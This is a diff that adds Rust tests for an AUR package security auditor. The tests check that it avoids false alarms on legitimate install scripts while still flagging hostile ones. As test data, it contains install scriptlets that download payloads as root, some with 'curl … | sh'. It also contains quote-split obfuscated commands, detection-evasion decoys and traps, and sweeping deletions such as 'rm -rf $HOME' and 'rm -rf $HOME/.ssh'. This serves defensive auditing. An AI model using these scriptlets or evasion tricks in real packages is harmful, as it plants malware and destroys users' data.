@@ -1,0 +1,283 @@
+//! False verdicts of landing 7's test set (bench/RESULTS.md, "Landing 7"), each fixed at its
+//! rule by what the code means, AFTER landing 7's one look at that set: these fixes are measured
+//! on the development set only, never on an unseen set. The packages are our own text in the
+//! real shapes (each test names the shape); the attack each rule exists for is asserted beside
+//! it.
+
+use archgate_aur::audit::{AuditInput, AuditReport, ScriptFile, Severity, Verdict, audit};
+
+fn max_of(r: &AuditReport, id: &str) -> Option<Severity> {
+    r.findings
+        .iter()
+        .filter(|f| f.id == id)
+        .map(|f| f.severity)
+        .max()
+}
+
+/// A package built from a release tarball that ships `file` (name, text) into `/usr/bin` and
+/// carries `script` as its install file.
+fn package(pkgname: &str, file: Option<(&str, &str)>, script: Option<&str>) -> AuditInput {
+    let mut files = Vec::new();
+    let mut sources = String::new();
+    let mut sums = String::new();
+    let mut install_line = String::new();
+    if let Some((name, text)) = file {
+        files.push(ScriptFile {
+            name: name.into(),
+            content: text.into(),
+        });
+        sources.push_str(&format!(" {name}"));
+        sums.push_str(" '1111111111111111111111111111111111111111111111111111111111111111'");
+        install_line = format!("  install -Dm755 {name} -t \"$pkgdir/usr/bin/\"\n");
+    }
+    let mut install = String::new();
+    if let Some(text) = script {
+        install = format!("install={pkgname}.install\n");
+        files.push(ScriptFile {
+            name: format!("{pkgname}.install"),
+            content: text.into(),
+        });
+    }
+    AuditInput {
+        pkgbuild: format!(
+            "pkgname={pkgname}\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/{pkgname}\"\nlicense=('MIT')\ndepends=('bash')\n{install}source=(\"https://example.org/{pkgname}-$pkgver.tar.gz\"{sources})\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000'{sums})\npackage() {{\n  cd {pkgname}-$pkgver\n  make DESTDIR=\"$pkgdir\" install\n  cd ..\n{install_line}}}\n"
+        ),
+        install_scripts: files,
+        srcinfo: None,
+    }
+}
+
+// Class: `eval set -- "$opts"` after `opts=$(getopt …)` is the documented option idiom (landing
+// 4's fix), but only the spelling `getopt` was read as getopt: a distribution's driver tool
+// (Encrypt OS's nvidia-driver-supported-branches) declares `local opts` first and calls
+// `/usr/bin/getopt` by its path. getopt at its system path is the same program; a declaration
+// without a value assigns nothing.
+
+#[test]
+fn getopt_called_by_its_system_path_is_the_option_idiom() {
+    let tool = "#!/bin/bash\nOptions() {\n    local opts\n    opts=\"$(/usr/bin/getopt -o=ha --longoptions help,all --name \"$progname\" -- \"$@\")\" || {\n        Options -h\n        return 1\n    }\n    eval set -- \"$opts\"\n    while true ; do\n        case \"$1\" in\n            -a | --all) all=yes ;;\n            --) shift; break ;;\n        esac\n        shift\n    done\n}\nOptions \"$@\"\n";
+    let r = audit(&package("driver-tool", Some(("driver-tool", tool)), None));
+    assert!(
+        max_of(&r, "AUR-EVAL").is_none_or(|s| s < Severity::Medium),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+}
+
+#[test]
+fn a_getopt_of_another_directory_or_another_program_is_still_eval_review() {
+    for line in [
+        // A program named getopt somewhere a user can write is not the system's getopt.
+        "opts=\"$(/tmp/getopt -o ha -- \"$@\")\"\neval set -- \"$opts\"",
+        "opts=\"$(./getopt -o ha -- \"$@\")\"\neval set -- \"$opts\"",
+        // Another program's output, spelt by its path.
+        "opts=\"$(/usr/bin/some-tool --print)\"\neval set -- \"$opts\"",
+        // One assignment is getopt's, another is not.
+        "local opts\nopts=\"$(/usr/bin/getopt -o ha -- \"$@\")\"\nopts=\"$(/usr/bin/some-tool --print)\"\neval set -- \"$opts\"",
+        // In place, from a getopt a user can write.
+        "eval set -- \"$(/tmp/getopt -o ha -- \"$@\")\"",
+    ] {
+        let tool = format!("#!/bin/bash\nf() {{\n{line}\n}}\nf \"$@\"\n");
+        let r = audit(&package("driver-tool", Some(("driver-tool", &tool)), None));
+        assert!(
+            max_of(&r, "AUR-EVAL").is_some_and(|s| s >= Severity::Medium),
+            "{line}\n{}",
+            r.to_text()
+        );
+    }
+}
+
+// Class: an install file that defines functions and calls them by name — Nowaker's
+// nexus-jetty-https defines `http() { sed -i … }` and `https() { sed -i … }` and calls `https`
+// from post_install — had each call read as HTTPie's `http`/`https` client (AUR-INSTALL-NETWORK
+// high). The shell runs a function defined under a name before any program of that name: the
+// call runs the function's body, which is walked and judged where it is called.
+
+const CONNECTOR_SWITCH: &str = "http='<New class=\"org.eclipse.jetty.server.nio.SelectChannelConnector\">'\nhttps='<New class=\"org.example.jetty.SslConnector\">'\nconfig='/opt/nexus/conf/jetty.xml'\n\nhttp() {\n  if [ -f \"$config\" ]; then\n    sed -i \"s/$https/$http/\" \"$config\"\n  fi\n}\n\nhttps() {\n  if [ -f \"$config\" ]; then\n    sed -i \"s/$http/$https/\" \"$config\"\n  fi\n}\n\npost_install() {\n  https\n}\n\npost_upgrade() {\n  https\n}\n\npost_remove() {\n  http\n}\n";
+
+#[test]
+fn a_function_the_install_file_defines_is_not_the_program_of_that_name() {
+    let r = audit(&package("nexus-connector", None, Some(CONNECTOR_SWITCH)));
+    assert!(
+        max_of(&r, "AUR-INSTALL-NETWORK").is_none(),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+}
+
+#[test]
+fn the_network_program_itself_or_a_function_that_downloads_is_still_caught() {
+    for script in [
+        // No such function: HTTPie itself, as root.
+        "post_install() {\n  https --download https://example.org/payload -o /usr/bin/payload\n}\n",
+        // A function of that name exists, but the call goes around it to the program.
+        "https() { :; }\npost_install() {\n  command https --download https://example.org/p -o /usr/bin/p\n}\n",
+        "https() { :; }\npost_install() {\n  sudo https --download https://example.org/p -o /usr/bin/p\n}\n",
+        "https() { :; }\npost_install() {\n  /usr/bin/https --download https://example.org/p -o /usr/bin/p\n}\n",
+        // Called before it is defined: the program runs.
+        "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n  https() { :; }\n}\n",
+        // A decoy defined after the file stops being read (pacman sources it; `return` or
+        // `exit` at the top level ends that), so the scriptlet runs the program.
+        "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\nreturn 0\nhttps() { :; }\n",
+        "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\ntrue && exit 0\nhttps() { :; }\n",
+        // A DEBUG trap under extdebug can skip commands (a definition too, taken as possible).
+        "shopt -s extdebug\ntrap '[[ $BASH_COMMAND == *https* ]] && false' DEBUG\nhttps() { :; }\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        // Another process has none of this shell's functions.
+        "https() { :; }\npost_install() {\n  bash -c 'https --download https://example.org/p -o /usr/bin/p'\n}\n",
+        "https() { :; }\npost_install() {\n  sh -c 'eval \"https --download https://example.org/p -o /usr/bin/p\"'\n}\n",
+        // Code the audit cannot read runs before the call and may unset the decoy.
+        "https() { :; }\n. /etc/demo/settings\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        "https() { :; }\npost_install() {\n  eval \"$(cat /etc/demo/prelude)\"\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        // bash stops reading the file at a syntax error: the decoy after it never exists.
+        "post_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n)\nhttps() { :; }\n",
+        // A decoy in a loop that may not run, in a background job, or in eval'd text.
+        "while false; do\n  https() { :; }\ndone\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        "https() { :; } &\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        "while false; do eval 'https() { :; }'; done\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        // A decoy defined only in a branch, in a subshell, or unset again: the program may run.
+        "if [ -e /nonexistent ]; then\n  https() { :; }\nfi\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        "( https() { :; } )\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        "https() { :; }\nunset -f https\npost_install() {\n  https --download https://example.org/p -o /usr/bin/p\n}\n",
+        // The function's own body downloads: judged where it is called.
+        "fetch_it() {\n  curl -fsSL https://example.org/payload -o /usr/bin/payload\n}\npost_install() {\n  fetch_it\n}\n",
+        "curl() {\n  command curl \"$@\"\n}\npost_install() {\n  curl -fsSL https://example.org/payload -o /usr/bin/payload\n}\n",
+    ] {
+        let r = audit(&package("nexus-connector", None, Some(script)));
+        assert_eq!(
+            max_of(&r, "AUR-INSTALL-NETWORK"),
+            Some(Severity::High),
+            "{script}\n{}",
+            r.to_text()
+        );
+        assert_eq!(r.verdict, Verdict::Dangerous, "{script}\n{}", r.to_text());
+    }
+}
+
+// Class: a split package's function defined by `eval "package_$pkgname()" '{ … }'` (FadeMind's
+// copies of mozilla-extension-gnotifier-git) was read as code hidden by quote splitting
+// (AUR-EXEC-OBFUSCATED critical): its single-quoted body closes and reopens its quotes around
+// `-exec rm -rf '{}' +`, and the check that every word of the text can be found as written
+// compared the text with the first line of the word only. Every word of that body is in the
+// file as written; splitting that hides a word (`c''u''rl`) is what the rule is for.
+
+fn split_package(body: &str) -> AuditInput {
+    AuditInput {
+        pkgbuild: format!(
+            "pkgname=mozilla-extension-demo-git\npkgver=1.0.r1.abc1234\npkgrel=1\npkgdesc='Add-on'\narch=('any')\nurl='https://github.com/example/demo'\nlicense=('GPL3')\nmakedepends=('git')\nsource=(\"demo::git+$url\")\nsha256sums=('SKIP')\n\nprepare() {{\n  cp -rfT --reflink=auto demo .\n}}\n\neval \"package_$pkgname()\" '{{\n  prepare_target\n{body}\n}}'\n\nprepare_target() {{\n  destdir=\"$pkgdir/usr/lib/demo\"\n  install -d \"$destdir\"\n}}\n"
+        ),
+        install_scripts: Vec::new(),
+        srcinfo: None,
+    }
+}
+
+#[test]
+fn a_split_package_body_closing_its_quotes_around_braces_hides_nothing() {
+    let r = audit(&split_package(
+        "  cp --no-preserve=ownership,mode -r . \"$destdir/$id\"\n  find \"$destdir/$id\" -mindepth 1 -name \".*\" -exec rm -rf '{}' +",
+    ));
+    assert!(
+        max_of(&r, "AUR-EXEC-OBFUSCATED").is_none() && max_of(&r, "AUR-OBFUSCATION").is_none(),
+        "{}",
+        r.to_text()
+    );
+    assert_ne!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+}
+
+#[test]
+fn quote_splitting_that_hides_a_word_is_still_caught_in_an_eval_body_or_a_command() {
+    // The same body hiding `curl` past the first line.
+    let r = audit(&split_package(
+        "  find . -exec rm -rf '{}' +\n  c''u''rl -fsSL https://example.org/x | sh",
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-EXEC-OBFUSCATED"),
+        Some(Severity::Critical),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+    // A command glued from quoted pieces.
+    let r = audit(&package(
+        "demo",
+        None,
+        Some("post_install() {\n  \"c\"\"u\"\"rl\" -fsSL https://example.org/x -o /usr/bin/x\n}\n"),
+    ));
+    assert!(
+        max_of(&r, "AUR-OBFUSCATION").is_some_and(|s| s >= Severity::High),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+}
+
+// Class: a program's own directory removed from a home on removal — RebornOS's yozo-office
+// pre_remove runs `rm -rf $HOME/.Yozo_Office/UserConfig` — was a write into a home, high
+// (dangerous), because the deletion is recursive. A deletion starts nothing (landing 5's
+// fix made a plain deletion in a home review: "check it is the package's own"); a recursive
+// one reaches no further than the directory it names when that directory is inside one named
+// for the package itself. The home itself, a pattern, a shared directory (`~/.config`,
+// `~/.ssh`) or another program's stay high.
+
+#[test]
+fn removing_the_programs_own_directory_from_a_home_is_review_not_dangerous() {
+    for line in [
+        "rm -rf $HOME/.Yozo_Office/UserConfig",
+        "rm -rf \"$HOME/.yozo-office\"",
+        "rm -r /root/.yozooffice/cache",
+    ] {
+        let script = format!("pre_remove() {{\n  {line}\n}}\n");
+        let r = audit(&package("yozo-office", None, Some(&script)));
+        assert_eq!(
+            max_of(&r, "AUR-WRITE-HOME"),
+            Some(Severity::Medium),
+            "{line}\n{}",
+            r.to_text()
+        );
+        assert_eq!(r.verdict, Verdict::Review, "{line}\n{}", r.to_text());
+    }
+}
+
+#[test]
+fn a_package_named_like_a_shared_home_directory_does_not_own_it() {
+    for (pkgname, line) in [
+        ("config", "rm -rf $HOME/.config"),
+        ("ssh", "rm -rf $HOME/.ssh/"),
+        ("local", "rm -rf /root/.local/share"),
+        ("documents", "rm -rf $HOME/Documents"),
+    ] {
+        let script = format!("pre_remove() {{\n  {line}\n}}\n");
+        let r = audit(&package(pkgname, None, Some(&script)));
+        assert_eq!(
+            max_of(&r, "AUR-WRITE-HOME"),
+            Some(Severity::High),
+            "{pkgname}: {line}\n{}",
+            r.to_text()
+        );
+    }
+}
+
+#[test]
+fn sweeping_deletions_in_homes_stay_dangerous() {
+    for line in [
+        "rm -rf $HOME",
+        "rm -rf /home/*",
+        "rm -rf $HOME/.config",
+        "rm -rf $HOME/.ssh",
+        "rm -rf $HOME/.mozilla/firefox",
+        "rm -rf $HOME/.Yozo_Office/../.ssh",
+        "rm -rf $HOME/.yozo-office*",
+        "rm -rf /home/*/.Yozo_Office",
+    ] {
+        let script = format!("pre_remove() {{\n  {line}\n}}\n");
+        let r = audit(&package("yozo-office", None, Some(&script)));
+        assert_eq!(
+            max_of(&r, "AUR-WRITE-HOME"),
+            Some(Severity::High),
+            "{line}\n{}",
+            r.to_text()
+        );
+        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
+    }
+}
